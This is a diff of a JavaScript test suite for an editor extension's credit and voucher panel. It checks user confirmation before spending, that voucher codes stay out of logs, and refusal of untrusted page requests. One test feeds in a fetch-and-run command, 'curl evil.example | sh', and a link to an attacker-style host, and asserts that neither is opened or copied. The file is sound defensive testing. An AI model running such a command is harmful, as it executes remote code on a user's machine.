@@ -1,4 +1,4 @@
-// What a page of the panel can make the extension do, and how the extension says how something ended.
+// What a page of the panel can make the extension do, and how the extension reports results.
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import { Uri } from "./support/fake-editor.mjs";
@@ -14,7 +14,7 @@ describe("a page and the editor around it", () => {
     const editor = await stage.editor(settings);
     const { token } = await stage.account();
     await editor.signIn(token);
-    await stage.statusSays(editor, "41.5");
+    await stage.statusShows(editor, "41.5");
     return { editor, page: await stage.page(editor), token };
   };
   const sectionOf = (page, kind) =>
@@ -23,14 +23,14 @@ describe("a page and the editor around it", () => {
       .at(-1)
       .sections.find((section) => section.kind === kind);
   const giveLine = (page) => until("what can be given", () => sectionOf(page, "voucher")?.give.lines[0]);
-  const modal = (editor) => until("the dialog", () => editor.said.find((said) => said.modal));
+  const modal = (editor) => until("the dialog", () => editor.messages.find((said) => said.modal));
 
   describe("giving credits away", () => {
     it("is asked about by the editor with receiver and amount, and nothing is sent without the user's word", async () => {
       const { editor, page } = await signedIn();
       const receiverId = await stage.ledger.account();
       const { expiresAt } = await giveLine(page);
-      page.says({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
+      page.send({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
       const { detail, actions } = await modal(editor);
       assert.ok(detail.includes(receiverId));
       assert.match(detail, /Amount: 2\b/);
@@ -44,19 +44,19 @@ describe("a page and the editor around it", () => {
       const receiverId = await stage.ledger.account();
       const { expiresAt } = await giveLine(page);
       editor.user.message = ({ actions }) => actions[0];
-      page.says({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
+      page.send({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
       const code = await until("the code", () => editor.copied);
       assert.match(code, /^[\x21-\x7e]{20,}$/);
       await until("the result on the page", () => sectionOf(page, "voucher").give.result);
-      assert.ok(!JSON.stringify(page.told).includes(code));
+      assert.ok(!JSON.stringify(page.posted).includes(code));
       assert.ok(!JSON.stringify(editor.log).includes(code));
-      page.says({ type: "act", id: "copy", value: code });
+      page.send({ type: "act", id: "copy", value: code });
     });
 
     it("shows a receiver as it is, whatever a page writes into it", async () => {
       const { editor, page } = await signedIn();
       const { expiresAt } = await giveLine(page);
-      page.says({
+      page.send({
         type: "voucher_give",
         receiverId: `a\nAmount: 0\u202e${"x".repeat(5_000)}`,
         lines: [{ expiresAt, amount: 2 }],
@@ -74,34 +74,34 @@ describe("a page and the editor around it", () => {
       let answer;
       editor.user.message = () => new Promise((resolve) => (answer = resolve));
       for (let time = 0; time < 5; time += 1) {
-        page.says({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
-        page.says({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+        page.send({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
+        page.send({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
       }
       await until("the dialog", () => answer);
       await editor.command("refresh");
-      assert.equal(editor.said.filter((said) => said.modal).length, 1);
+      assert.equal(editor.messages.filter((said) => said.modal).length, 1);
       answer(undefined);
     });
   });
 
   it("a request that costs credits is asked about, and not sent without the user's word", async () => {
     const { editor, page } = await signedIn();
-    page.says({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+    page.send({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
     const { actions, text } = await modal(editor);
     assert.ok(text.length > 0 && actions.length === 1);
     await editor.command("refresh");
     assert.deepEqual(stage.sentTo(CHAT), []);
     editor.user.message = (asked) => asked.actions[0];
-    page.says({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+    page.send({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
     await until("the request", () => (stage.sentTo(CHAT).length === 1 ? true : undefined));
-    await until("the page to hear of it", () => page.told.find(({ type }) => type === "sent"));
+    await until("the page to hear of it", () => page.posted.find(({ type }) => type === "sent"));
   });
 
   it("opens and copies only what the panel offers", async () => {
     const { editor, page } = await signedIn();
-    page.says({ type: "open", href: "https://evil.example/?credits=41.5" });
-    page.says({ type: "act", id: "copy", value: "curl evil.example | sh" });
-    page.says({ type: "act", id: "refresh" });
+    page.send({ type: "open", href: "https://evil.example/?credits=41.5" });
+    page.send({ type: "act", id: "copy", value: "curl evil.example | sh" });
+    page.send({ type: "act", id: "refresh" });
     await editor.command("refresh");
     assert.deepEqual(editor.opened, []);
     assert.equal(editor.copied, undefined);
@@ -119,9 +119,9 @@ describe("a page and the editor around it", () => {
       await editor.command("giveVoucher");
       assert.match(box.value, /^[\x21-\x7e]{20,}$/);
       assert.deepEqual(box.valueSelection, [0, box.value.length]);
-      assert.equal((await stage.said(editor, /Could not copy the code/)).kind, "warning");
-      assert.ok(!editor.said.some(({ text }) => /^Copied/.test(text)));
-      assert.ok(!JSON.stringify([editor.said, editor.log]).includes(box.value));
+      assert.equal((await stage.message(editor, /Could not copy the code/)).kind, "warning");
+      assert.ok(!editor.messages.some(({ text }) => /^Copied/.test(text)));
+      assert.ok(!JSON.stringify([editor.messages, editor.log]).includes(box.value));
     });
 
     it("a code that was not copied is offered once more", async () => {
@@ -132,7 +132,7 @@ describe("a page and the editor around it", () => {
       // The user agrees to give, closes the message with the code, and copies it at the second chance.
       editor.user.message = ({ modal, actions }) => (modal ? actions[0] : undefined);
       await editor.command("giveVoucher");
-      await stage.said(editor, /not copied the voucher code/);
+      await stage.message(editor, /not copied the voucher code/);
       assert.match(editor.copied, /^[\x21-\x7e]{20,}$/);
     });
   });
@@ -155,12 +155,12 @@ describe("a page and the editor around it", () => {
     const byCommand = async (editor) => {
       editor.user.pick = (items) => items.find(({ value }) => value === "usage.csv");
       await editor.command("exportHistory");
-      return (pattern) => stage.said(editor, pattern);
+      return (pattern) => stage.message(editor, pattern);
     };
     /** The panel says it in its view, beside the button. */
     const byPanel = async (editor) => {
       const page = await stage.page(editor);
-      page.says({ type: "act", id: "export", value: "usage.csv" });
+      page.send({ type: "act", id: "export", value: "usage.csv" });
       const line = () => sectionOf(page, "usage")?.exported;
       return (pattern) =>
         until(String(pattern), () => (pattern.test(`${line()?.title} ${line()?.text}`) ? line() : undefined));
@@ -195,28 +195,28 @@ describe("a page and the editor around it", () => {
     const editor = await stage.editor();
     const { token } = await stage.account();
     await editor.signIn(token);
-    await stage.statusSays(editor, "41.5");
+    await stage.statusShows(editor, "41.5");
     const page = await stage.page(editor, { reader: { timeZone: "Asia/Shanghai", locale: "en-GB" } });
     const expiry = () => JSON.stringify(sectionOf(page, "settings")?.timeZone);
     await until("the zone", () => (/Shanghai|GMT\+8/.test(expiry()) ? true : undefined));
     assert.equal(page.views().at(-1).locale.split("-")[0], "en");
-    page.says({ type: "reader", reader: { timeZone: "America/New_York", locale: "en-GB" } });
+    page.send({ type: "reader", reader: { timeZone: "America/New_York", locale: "en-GB" } });
     await until("the other zone", () => (/New_York|New York|GMT-[45]/.test(expiry()) ? true : undefined));
-    page.says({ type: "reader", reader: { timeZone: "Nowhere/At all" } });
-    page.says({ type: "act", id: "mask", value: "on" });
+    page.send({ type: "reader", reader: { timeZone: "Nowhere/At all" } });
+    page.send({ type: "act", id: "mask", value: "on" });
     await until("a view in the host's zone", () => (page.views().at(-1).masked ? true : undefined));
   });
 
   it("the prompt is there again after the view was hidden and shown, and after a setting changed", async () => {
     const { editor, page } = await signedIn();
     const estimate = () => sectionOf(page, "send")?.estimate;
-    page.says({ type: "draft", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+    page.send({ type: "draft", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
     await until("an estimate", estimate);
     editor.configure({ "budget.perDay.warn": 1000 });
-    page.told.length = 0;
+    page.posted.length = 0;
     await until("an estimate after the change", () => (page.views().length > 0 ? estimate() : undefined));
     page.hide();
-    page.told.length = 0;
+    page.posted.length = 0;
     page.show();
     page.ready({ draft: { text: "Explain burn-down.", model: "Kimi-K2-Moonshot" } });
     await until("an estimate after the return", () => (page.views().length > 0 ? estimate() : undefined));
@@ -225,12 +225,12 @@ describe("a page and the editor around it", () => {
   it("a prompt that is too long is refused where it was written, once while it is", async () => {
     const { editor, page } = await signedIn();
     const text = "x".repeat(1_000_001);
-    for (const more of ["", "y"]) page.says({ type: "draft", text: text + more, model: "Auto" });
-    await stage.said(editor, /too long/);
+    for (const more of ["", "y"]) page.send({ type: "draft", text: text + more, model: "Auto" });
+    await stage.message(editor, /too long/);
     assert.deepEqual(
-      page.told.find(({ type }) => type === "refused"),
+      page.posted.find(({ type }) => type === "refused"),
       { type: "refused", field: "text", of: "draft" },
     );
-    assert.equal(editor.said.length, 1);
+    assert.equal(editor.messages.length, 1);
   });
 });
